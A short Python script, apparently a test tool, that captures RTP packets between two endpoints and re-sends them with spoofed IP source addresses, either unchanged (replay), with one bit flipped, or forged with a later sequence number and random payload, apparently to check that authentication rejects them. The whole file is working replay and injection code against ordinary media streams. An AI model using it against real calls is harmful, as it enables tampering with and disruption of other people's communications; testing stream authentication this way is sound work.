#!/usr/bin/env python3
"""Somebody on the path: catches RTP between two ends and plays it again, as it was or changed.

inject.py catch FROM TO COUNT FILE    FROM, TO: address:port
inject.py send|spoil|forge FROM TO FILE
"""
import random
import socket
import struct
import sys


def end(text):
    host, port = text.rsplit(":", 1)
    return socket.inet_aton(host), int(port)


def catch(src, dst, count, path):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    s.settimeout(20)
    got = []
    while len(got) < count:
        p, where = s.recvfrom(65536)
        ip = (p[0] & 15) * 4
        if where[2] == 4 or p[9] != 17 or p[12:16] != src[0] or p[16:20] != dst[0]:
            continue    # 4: seen a second time, as it leaves
        if struct.unpack("!HH", p[ip:ip + 4]) == (src[1], dst[1]):
            got.append(p[ip + 8:].hex())
    with open(path, "w") as f:
        f.write("\n".join(got))


def spoil(p):
    """One bit of what is authenticated."""
    b = bytearray(p)
    b[12 + random.randrange(len(b) - 12)] ^= 1 << random.randrange(8)
    return bytes(b)


def forge(p):
    """What comes next in the stream, by somebody who does not know the key."""
    seq = struct.unpack("!H", p[2:4])[0]
    return p[:2] + struct.pack("!H", (seq + 500) & 0xffff) + p[4:12] + random.randbytes(len(p) - 12)


def send(src, dst, path, change):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for line in open(path):
        p = change(bytes.fromhex(line.strip()))
        udp = struct.pack("!HHHH", src[1], dst[1], 8 + len(p), 0) + p
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src[0], dst[0])
        s.sendto(ip + udp, (socket.inet_ntoa(dst[0]), 0))


what, src, dst = sys.argv[1], end(sys.argv[2]), end(sys.argv[3])
if what == "catch":
    catch(src, dst, int(sys.argv[4]), sys.argv[5])
else:
    send(src, dst, sys.argv[4], {"send": lambda p: p, "spoil": spoil, "forge": forge}[what])
